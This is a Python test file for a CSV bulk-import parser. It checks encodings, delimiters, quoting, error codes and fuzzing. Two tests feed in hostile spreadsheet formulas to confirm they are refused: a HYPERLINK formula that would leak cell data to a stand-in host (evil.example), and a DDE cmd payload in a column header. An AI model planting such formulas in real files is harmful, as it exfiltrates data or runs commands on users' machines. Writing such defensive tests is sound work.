"""The CSV reader of bulk imports against hostile files, and the shortcuts an import takes."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from email_validator import EmailNotValidError, validate_email
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from libs.common.events.envelope import CommandContext
from libs.common.events.registry import AccountAdded, AccountSettings
from services.registry.csvimport import COLUMNS, CsvError, parse, safe_text
from services.registry.handlers import wrap
from services.registry.handlers_import import first_envelope
from services.registry.validation import Invalid, normalise_address

HEADER = "address,display_name,password,owner_email,employee_name,department"


def rows(text: str, **kw: Any) -> list[dict[str, str]]:
    return [r.cells for r in parse(text.encode(), **kw).rows]


def test_utf8_bom_and_comma() -> None:
    p = parse(("\ufeff" + HEADER + "\na@acme.example,Ann,pw,,,\n").encode())
    assert p.encoding == "utf-8-sig" and p.delimiter == ","
    assert p.rows[0].cells["address"] == "a@acme.example" and p.rows[0].number == 2


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_with_or_without_bom(encoding: str) -> None:
    text = HEADER + "\nzhang@acme.example,张伟,pw,,,销售部\n"
    p = parse(text.encode(encoding))
    assert p.rows[0].cells["display_name"] == "张伟"
    assert p.rows[0].cells["department"] == "销售部"


@pytest.mark.parametrize(
    ("encoding", "name"),
    [
        ("latin-1", "Zoë Müller"),
        ("cp1252", "François “Café”"),
        ("gbk", "张伟"),
        ("gbk", "王芳 销售部"),
        ("cp1251", "Ольга Иванова"),
    ],
)
def test_legacy_encodings_are_detected(encoding: str, name: str) -> None:
    data = f"address;display_name\nx@acme.example;{name}\n".encode(encoding)
    p = parse(data)
    assert p.delimiter == ";"
    assert p.rows[0].cells["display_name"] == name, p.encoding


def test_encoding_can_be_given_and_is_checked() -> None:
    data = "address,display_name\nx@acme.example,山田太郎\n".encode("shift_jis")
    assert parse(data, encoding="shift_jis").rows[0].cells["display_name"] == "山田太郎"
    with pytest.raises(CsvError) as e:
        parse(data, encoding="no-such-codec")
    assert e.value.code == "unknown_encoding"
    with pytest.raises(CsvError) as e:
        parse(b"address\n\xff\xfe\xfa@x\n", encoding="utf-8")
    assert e.value.code == "undecodable"


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_delimiter_is_sniffed_from_the_header(delimiter: str) -> None:
    text = delimiter.join(["Address", "Display Name", "forwarding"]) + "\n"
    text += delimiter.join(["a@acme.example", '"Doe, Jane; Dr."', '"b@x.example;c@x.example"'])
    p = parse(text.encode())
    assert p.delimiter == delimiter
    assert p.rows[0].cells == {
        "address": "a@acme.example",
        "display_name": "Doe, Jane; Dr.",
        "forwarding": "b@x.example;c@x.example",
    }


def test_quotes_newlines_and_non_latin_names() -> None:
    text = (
        'address,display_name\n"a@acme.example","Line one\nline ""two"""\nb@acme.example,Ñoño 😀\n'
    )
    p = parse(text.encode())
    assert p.rows[0].cells["display_name"] == 'Line one\nline "two"'
    assert (p.rows[1].number, p.rows[1].cells["display_name"]) == (3, "Ñoño 😀")  # records


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " \r="])
def test_formula_cells_are_refused_and_not_echoed(start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    out = io.StringIO()
    csv.writer(out).writerows(
        [["address", "display_name", "password"], ["a@acme.example", evil, f"{start}pw"]]
    )
    p = parse(out.getvalue().encode())
    assert not p.rows
    [problem] = p.problems
    assert (problem.number, problem.code, problem.column) == (
        2,
        "formula_injection",
        "display_name",
    )
    assert "HYPERLINK" not in problem.message and "evil" not in problem.message


def test_a_password_may_start_like_a_formula() -> None:
    assert rows("address,password\na@acme.example,-secret=\n")[0]["password"] == "-secret="


def test_too_many_cells_in_a_row_is_a_row_error() -> None:
    p = parse(b"address,display_name\na@acme.example,A,extra,more\nb@acme.example,B,,\n")
    assert [x.code for x in p.problems] == ["too_many_columns"]
    assert p.problems[0].number == 2
    assert [r.cells["address"] for r in p.rows] == ["b@acme.example"]  # empty extras are fine


def test_missing_required_columns_are_named() -> None:
    with pytest.raises(CsvError) as e:
        parse(b"name,password\nAnn,pw\n")
    assert e.value.code == "missing_columns" and "address" in e.value.message
    assert e.value.details["missing"] == ["address"]


def test_file_level_errors() -> None:
    for data, code in [
        (b"", "empty_csv"),
        (b"\n\n  \n", "empty_csv"),
        (b"address\n", "empty_csv"),
        (b"address,Address\na@x.example,b@x.example\n", "duplicate_columns"),
        (",".join(f"c{i}" for i in range(200)).encode() + b",address\n", "too_many_columns"),
    ]:
        with pytest.raises(CsvError) as e:
            parse(data)
        assert e.value.code == code, data[:40]
    with pytest.raises(CsvError) as e:
        parse(b"address\n" + b"a@x.example\n" * 11, max_rows=10)
    assert e.value.code == "too_many_rows"


def test_unknown_columns_are_ignored_and_reported() -> None:
    p = parse(b"address,=cmd|' /C calc'!A0,Notes\na@acme.example,x,y\n")
    assert p.columns == ["address"]
    assert p.ignored == ["'=cmd|' /C calc'!A0", "Notes"]  # neutralised when shown


def test_safe_text_neutralises() -> None:
    assert safe_text("=1+2") == "'=1+2"
    assert safe_text("a\x00b\nc") == "a b c"
    assert safe_text("x" * 200).endswith("…")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000) | st.text(max_size=500).map(lambda t: t.encode()))
def test_fuzz_never_crashes(data: bytes) -> None:
    """Any bytes: rows and row problems, or one clear file-level error."""
    for body in (data, b"address,display_name\n" + data):
        try:
            p = parse(body)
        except CsvError as exc:
            assert exc.code and exc.message and exc.status == 422
            continue
        assert all(set(r.cells) <= set(COLUMNS) for r in p.rows)
        assert all(p.number > 1 and p.message for p in p.problems)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(["a@acme.example", "Ann", "=1", "x;y", '"q"', "张伟", "", "\r\n"]),
        min_size=1,
        max_size=8,
    ),
    st.sampled_from(["utf-8", "utf-16", "gb18030", "latin-1"]),
)
def test_fuzz_structured_rows(cells: list[str], encoding: str) -> None:
    line = ",".join(cells)
    try:
        data = f"address,display_name,forwarding\n{line}\n".encode(encoding)
    except UnicodeEncodeError:
        return
    try:
        parse(data)
    except CsvError as exc:
        assert exc.code in {"empty_csv", "csv_unreadable"}


# --- the shortcuts of a bulk import --------------------------------------------------------
@settings(max_examples=2000, deadline=None)
@given(
    st.one_of(
        st.from_regex(r"[A-Za-z0-9_%+\-.]{1,70}", fullmatch=True),
        st.sampled_from(["Postmaster", "ABUSE", "info", "a..b", ".a", "a."]),
        st.text(max_size=12),
    ),
    st.sampled_from(
        ["acme.example", "ACME.example", "xn--bcher-kva.example", "bücher.example", "localhost",
         "a-.com", "[1.2.3.4]", "test", "example.invalid", "a..b", "x.museum"]
    ),
)  # fmt: skip
def test_address_fast_path_equals_email_validator(local: str, domain: str) -> None:
    value = f"{local}@{domain}"
    try:
        expected: str | None = validate_email(value, check_deliverability=False).normalized
    except EmailNotValidError:
        expected = None
    try:
        got: str | None = normalise_address(value)
    except Invalid:
        got = None
    assert got == expected


def test_first_envelope_equals_wrap() -> None:
    event = AccountAdded(address="a@acme.example", protocol="imap", settings=AccountSettings())
    ctx = CommandContext("acme", "admin:a")
    fast = first_envelope(ctx, "acc1", event)
    [slow] = wrap(ctx, "acc1", 0, [event])
    skip = {"id", "time"}
    assert fast.model_dump(exclude=skip) == slow.model_dump(exclude=skip)
    assert type(fast.event()) is AccountAdded and fast.nats_subject == slow.nats_subject


async def test_odd_digits_are_a_row_error_not_a_crash() -> None:
    from services.registry.autofill import Autofill
    from services.registry.importer import RowResult, plan_row
    from services.registry.netguard import Network

    network = Network.create(
        dns_server="127.0.0.1:9",
        ca_file=None,
        autoconfig_urls=(),
        discovery_timeout=0.2,
        connect_timeout=1,
        allow_private=False,
    )
    p = parse("address,preset,polling_interval_s\na@acme.example,gmail,³⁰⁰\n".encode())
    result = await plan_row(p.rows[0], Autofill(network, None))
    assert isinstance(result, RowResult) and result.code == "invalid_number"
    assert result.column == "polling_interval_s"
